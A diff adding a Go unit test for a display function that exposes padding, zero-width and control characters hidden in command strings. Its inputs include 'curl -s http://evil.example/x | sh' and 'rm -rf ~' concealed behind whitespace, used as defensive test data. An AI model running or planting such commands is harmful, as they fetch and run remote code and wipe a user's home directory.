@@ -481,3 +481,42 @@ func TestListingKeepsItemsWhole(t *testing.T) {
 		}
 	}
 }
+
+// Whole squeezes blanks, marks what would not show, wraps and cuts nothing.
+func TestWhole(t *testing.T) {
+	hidden := "sh -c prettier --check ." + strings.Repeat(" ", 250) + "; curl -s http://evil.example/x | sh"
+	zw := "lint" + strings.Repeat("\u200b", 300) + "; rm -rf ~"
+	for _, tc := range []struct {
+		name  string
+		in    string
+		width int
+		want  []string
+	}{
+		{"blanks squeezed first", hidden, 80, []string{"sh -c prettier --check . ; curl -s http://evil.example/x | sh"}},
+		{"a run of zero-width spaces is one mark", zw, 80, []string{"lint<U+200B ×300>; rm -rf ~"}},
+		{"bidi, nbsp, fillers, controls and bad bytes", "a\u202eb\u00a0c\u3164d\u2800e\x1b[2Jf\xffg\u034fh\ufe0fi", 200,
+			[]string{"a<U+202E>b<U+00A0>c<U+3164>d<U+2800>e<U+001B>[2Jf<0xFF>g<U+034F>h<U+FE0F>i"}},
+		{"look-alikes stay as they are", "cаt ＜x＞ é", 80, []string{"cаt ＜x＞ é"}},
+		{"wrapped between words", "aaaa bbbb cccc dddd eeee", 16, []string{"aaaa bbbb cccc", "dddd eeee"}},
+		{"a long word is broken, a mark is not", strings.Repeat("x", 20) + "\u200b", 16,
+			[]string{strings.Repeat("x", 16), "xxxx<U+200B>"}},
+		{"tabs and newlines are blanks", "\t a\n\nb \r\n", 80, []string{"a b"}},
+		{"empty", "   ", 80, []string{""}},
+	} {
+		got := Whole(tc.in, tc.width)
+		if !slices.Equal(got, tc.want) {
+			t.Errorf("%s: Whole = %q, want %q", tc.name, got, tc.want)
+		}
+	}
+	// However long, every character is there and no line passes the width.
+	long := strings.Repeat("--flag=value ", 500) + "tail"
+	lines := Whole(long, 40)
+	if got := strings.Join(lines, " "); got != strings.TrimSpace(long) {
+		t.Fatalf("something was lost: %d lines, joined %d bytes, want %d", len(lines), len(got), len(strings.TrimSpace(long)))
+	}
+	for _, l := range lines {
+		if textWidth(l) > 40 || strings.HasPrefix(l, " ") {
+			t.Fatalf("line %q", l)
+		}
+	}
+}
